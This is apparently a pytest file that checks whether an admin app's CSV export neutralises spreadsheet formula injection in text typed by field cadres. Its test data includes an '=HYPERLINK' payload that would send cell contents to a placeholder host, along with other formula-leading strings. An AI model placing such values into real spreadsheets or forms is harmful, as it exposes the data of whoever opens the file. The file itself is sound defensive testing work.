"""piccolo-admin's own "Export CSV" builds the file in the browser from the list API (admin_ui's
CSVModal.vue: ``__page_size=1000``, ``__readable=true``, page by page) and only doubles quotes. What a
cadre typed must not become a live formula cell there either: those answers carry text cells
neutralised by the server exports' own rule (server/exports/render.py ``neutralise``), while the list
screen shows the text as typed. Both databases, real HTTP, the parameters the button sends."""

from __future__ import annotations

import uuid

import pytest

from server.exports.render import neutralise
from tests.admin.helpers import AdminBrowser, create, kader_device
from tests.conftest import GEROKGAK, LiveServer, Store

HOSTILE = {
    "equals": '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "space first": " =1+2",
    "tab": "\t=1+2",
    "carriage return": "\r=1+2",
    "full-width equals": "\uff1d1+2",
    "full-width plus": "\uff0b1",
    "full-width minus": "\uff0d1",
    "full-width at": "\uff20SUM(1)",
}
BENIGN = ["Jalan dusun rusak", "e-mail kader", "100 m - 200 m", "'sudah dikutip"]


@pytest.fixture(scope="module")
def desa(store: Store) -> str:
    return store.new_desa(GEROKGAK)  # a desa of its own: the lists hold only what these tests typed


@pytest.fixture(scope="module")
def typed(server: LiveServer, store: Store, desa: str) -> dict[str, uuid.UUID]:
    cadre = kader_device(server, store, desa)
    return {text: create(cadre, "pengkajian", jenis="masalah", uraian=text, penyebab=text)
            for text in [*HOSTILE.values(), *BENIGN]}


@pytest.fixture(scope="module")
def admin(server: LiveServer, store: Store) -> AdminBrowser:
    return AdminBrowser.new(server, store, GEROKGAK)


def listed(admin: AdminBrowser, desa: str, **params: object) -> dict[str, dict[str, object]]:
    r = admin.http.get("/admin/api/tables/pengkajian/", params={"desa_code": desa, **params})
    assert r.status_code == 200, r.text[:300]
    return {row["id"]: row for row in r.json()["rows"]}


def test_the_export_buttons_rows_hold_no_formula(admin: AdminBrowser, typed: dict[str, uuid.UUID], desa: str) -> None:
    # As CSVModal.vue asks: the filters, then __page_size=1000, __readable=true, __page=n.
    rows = listed(admin, desa, __page_size=1000, __readable="true", __page=1)
    for text, record in typed.items():
        row = rows[str(record)]
        assert row["uraian"] == row["penyebab"] == neutralise(text), (text, row["uraian"])
    for name, text in HOSTILE.items():
        cell = rows[str(typed[text])]["uraian"]
        assert cell.startswith("'") and cell[1:] == text, name  # what Excel shows: the text, inert
    for text in BENIGN:
        assert rows[str(typed[text])]["uraian"] == text


def test_the_list_screen_shows_the_text_as_typed(admin: AdminBrowser, typed: dict[str, uuid.UUID], desa: str) -> None:
    # As the list screen asks (store.ts fetchRows): __readable=true with the chosen page size (5–100).
    rows = listed(admin, desa, __readable="true", __page_size=100, __page=1)
    for text, record in typed.items():
        assert rows[str(record)]["uraian"] == text


@pytest.mark.parametrize("text", sorted(HOSTILE.values()))
def test_the_server_exports_neutralise_the_same_starts(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.slow
def test_the_export_csv_button_in_chromium_writes_inert_cells(
    server: LiveServer, store: Store, typed: dict[str, uuid.UUID]
) -> None:
    """The real button, in real Chromium: the file it makes holds the hostile text as inert cells."""
    import csv
    import io
    import os
    from pathlib import Path

    from playwright.sync_api import sync_playwright

    chromium = os.environ.get("KADER_TEST_CHROMIUM", "/usr/bin/chromium")
    if not Path(chromium).exists():
        pytest.skip(f"Chromium not found at {chromium} (apt-get install chromium)")
    username, password = store.user("admin", GEROKGAK)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page(accept_downloads=True)
            page.goto(f"{server.url}/admin/")
            page.fill("input[name=username]", username)
            page.fill("input[name=password]", password)
            page.keyboard.press("Enter")
            page.get_by_text("Pengkajian").first.wait_for(timeout=60_000)
            page.goto(f"{server.url}/admin/#/pengkajian")
            page.locator("[data-uitest=csv_button]").click(timeout=60_000)
            with page.expect_download(timeout=60_000) as download:
                page.locator("[data-uitest=download_csv_button]").click()
            text = Path(download.value.path()).read_bytes().decode("utf-8")  # CR in a cell stays CR
        finally:
            browser.close()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    cells = {row["uraian"] for row in rows}
    for name, hostile in HOSTILE.items():
        assert hostile not in cells, name
        assert neutralise(hostile) in cells, name
